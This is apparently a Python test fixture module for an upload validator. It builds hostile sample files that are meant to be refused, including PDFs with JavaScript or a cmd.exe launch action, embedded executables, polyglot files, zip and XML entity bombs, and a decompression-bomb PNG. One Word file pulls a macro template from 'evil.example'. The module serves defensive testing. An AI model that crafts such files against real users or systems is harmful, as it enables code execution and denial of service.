"""Files that must not be taken, each made here: by what they are, whatever their name says."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from PIL import Image

HTML = b'<!doctype html><title>x</title><script>alert(document.cookie)</script>'
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
EXE = b'MZ\x90\x00\x03' + b'\0' * 200 + b'This program cannot be run in DOS mode.' + b'\0' * 2000
TEST_VIRUS = b'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-' + b'STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'
WORD = 'word/document.xml'


def png() -> bytes:
    """Return a whole picture that does not compress."""
    out = io.BytesIO()
    Image.effect_noise((120, 120), 90).save(out, 'PNG')
    return out.getvalue()


def pdf(change: Callable[[pikepdf.Pdf], object] = lambda _: None, lock: pikepdf.Encryption | None = None) -> bytes:
    """Return a PDF of one page, changed by a function."""
    out = io.BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page()
        change(made)
        made.save(out, encryption=lock or False)
    return out.getvalue()


def script_pdf() -> bytes:
    """Return a PDF that runs a script when it is opened."""
    action = pikepdf.Dictionary(S=pikepdf.Name('/JavaScript'), JS='app.alert(1)')
    return pdf(lambda made: made.Root.__setitem__('/OpenAction', action))


def linked_pdf() -> bytes:
    """Return a PDF with a script behind a link on its page."""

    def change(made: pikepdf.Pdf) -> None:
        action = pikepdf.Dictionary(S=pikepdf.Name('/JavaScript'), JS='app.alert(1)')
        link = pikepdf.Dictionary(Type=pikepdf.Name('/Annot'), Subtype=pikepdf.Name('/Link'), A=action)
        made.pages[0].Annots = pikepdf.Array([made.make_indirect(link)])

    return pdf(change)


def launch_pdf() -> bytes:
    """Return a PDF that starts a program."""
    action = pikepdf.Dictionary(S=pikepdf.Name('/Launch'), F='cmd.exe')
    return pdf(lambda made: made.Root.__setitem__('/OpenAction', action))


def attached_pdf() -> bytes:
    """Return a PDF that carries a program."""

    def change(made: pikepdf.Pdf) -> None:
        made.attachments['x.exe'] = pikepdf.AttachedFileSpec(made, EXE, filename='x.exe')  # type: ignore[call-arg]

    return pdf(change)


def locked_pdf() -> bytes:
    """Return a PDF with a password."""
    return pdf(lock=pikepdf.Encryption(user='mật', owner='mật', R=6))


def named_script_pdf() -> bytes:
    """Return a PDF with a script in its list of scripts, which readers run when they open it."""
    action = pikepdf.Dictionary(S=pikepdf.Name('/JavaScript'), JS='app.alert(1)')
    scripts = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String('x'), action]))
    return pdf(lambda made: made.Root.__setitem__('/Names', pikepdf.Dictionary(JavaScript=scripts)))


def page_pdf() -> bytes:
    """Return a PDF that is a page with a script to a browser that guesses."""
    return b'%PDF-1.7\n%' + HTML + b'\n' + pdf()[9:]


def archive_pdf() -> bytes:
    """Return a PDF that is an office file to whoever reads from its end."""
    return pdf() + office()


def page_picture() -> bytes:
    """Return a page that begins as a picture does."""
    return b'GIF89a/*' + HTML


def cut_jpeg() -> bytes:
    """Return the first half of a photograph."""
    out = io.BytesIO()
    Image.effect_noise((300, 300), 90).save(out, 'JPEG')
    return out.getvalue()[: len(out.getvalue()) // 2]


def cut_pdf() -> bytes:
    """Return a PDF without its end."""
    return pdf()[:-40]


def template() -> bytes:
    """Return an office file that gets its template, and the macros in it, from elsewhere."""
    kind = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'
    relation = f'<Relationship Id="r" Type="{kind}" Target="https://evil.example/t.dotm" TargetMode="External"/>'
    return office(**{'word/_rels/settings.xml.rels': f'<Relationships>{relation}</Relationships>'.encode()})


def inside() -> bytes:
    """Return an office file with a program in it."""
    return office(**{'word/embeddings/oleObject1.bin': EXE})


def entities() -> bytes:
    """Return an office file whose text unfolds to gigabytes."""
    rows = ''.join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    return office(**{'word/styles.xml': f'<!DOCTYPE x [<!ENTITY e0 "lol">{rows}]><x>&e9;</x>'.encode()})


def huge_png(width: int = 30_000, height: int = 30_000) -> bytes:
    """Return a whole picture of a hundred kilobytes that unpacks to more than a hundred megabytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data))

    packer, rows = zlib.compressobj(9), []
    for _ in range(height // 100):
        rows.append(packer.compress(b'\0' * (1 + width // 8) * 100))
    rows.append(packer.flush())
    head = chunk(b'IHDR', struct.pack('>IIBBBBB', width, height, 1, 0, 0, 0, 0))
    return b'\x89PNG\r\n\x1a\n' + head + chunk(b'IDAT', b''.join(rows)) + chunk(b'IEND', b'')


def office(**members: bytes) -> bytes:
    """Return an office file with these members besides the document."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as archive:
        archive.writestr('[Content_Types].xml', b'<Types/>')
        archive.writestr(WORD, b'<w:document/>')
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def bomb() -> bytes:
    """Return an office file that unpacks to 240 MB."""
    return office(**{f'word/media/{n}.bmp': b'\0' * 60_000_000 for n in range(4)})


def lying_bomb() -> bytes:
    """Return an office file whose list of contents says less than what unpacks."""
    content = bytearray(office(**{'word/media/1.bmp': b'\0' * 30_000_000}))
    size = struct.pack('<I', 30_000_000)
    while (at := content.find(size)) >= 0:
        content[at : at + 4] = struct.pack('<I', 10)
    return bytes(content)


def macros() -> bytes:
    """Return an office file with macros."""
    return office(**{'word/vbaProject.bin': b'\0' * 100})


CASES: tuple[tuple[str, Callable[[], bytes], str, str], ...] = (
    ('trong.jpg', lambda: b'', 'image/jpeg', 'empty'),
    ('giay.jpg', lambda: HTML, 'image/jpeg', 'kind'),
    ('giay.png', lambda: SVG, 'image/png', 'kind'),
    ('giay.svg', lambda: SVG, 'image/svg+xml', 'kind'),
    ('giay.pdf', lambda: EXE, 'application/pdf', 'kind'),
    ('giay.png', lambda: TEST_VIRUS, 'image/png', 'kind'),
    ('giay.docx', lambda: b'PK\x03\x04' + b'x' * 500, 'application/zip', 'kind'),
    ('cut.png', lambda: png()[:-4_000], 'image/png', 'broken'),
    ('cut.pdf', lambda: b'%PDF-1.7\n' + b'x' * 3_000, 'application/pdf', 'broken'),
    ('script.pdf', script_pdf, 'application/pdf', 'active_pdf'),
    ('linked.pdf', linked_pdf, 'application/pdf', 'active_pdf'),
    ('launch.pdf', launch_pdf, 'application/pdf', 'active_pdf'),
    ('attached.pdf', attached_pdf, 'application/pdf', 'active_pdf'),
    ('locked.pdf', locked_pdf, 'application/pdf', 'password'),
    ('huge.png', huge_png, 'image/png', 'too_many_pixels'),
    ('bomb.docx', bomb, 'application/zip', 'too_large'),
    ('lying.docx', lying_bomb, 'application/zip', 'broken'),
    ('macros.docx', macros, 'application/zip', 'macros'),
    ('named.pdf', named_script_pdf, 'application/pdf', 'active_pdf'),
    ('page.pdf', page_pdf, 'application/pdf', 'mixed'),
    ('archive.pdf', archive_pdf, 'application/pdf', 'mixed'),
    ('page.gif', page_picture, 'image/gif', 'kind'),
    ('half.jpg', cut_jpeg, 'image/jpeg', 'broken'),
    ('half.pdf', cut_pdf, 'application/pdf', 'broken'),
    ('template.docx', template, 'application/zip', 'linked_office'),
    ('inside.docx', inside, 'application/zip', 'embedded_office'),
    ('entities.docx', entities, 'application/zip', 'broken'),
)
"""Name, contents, the type it is said to have, and the key of the sentence with which it is refused."""
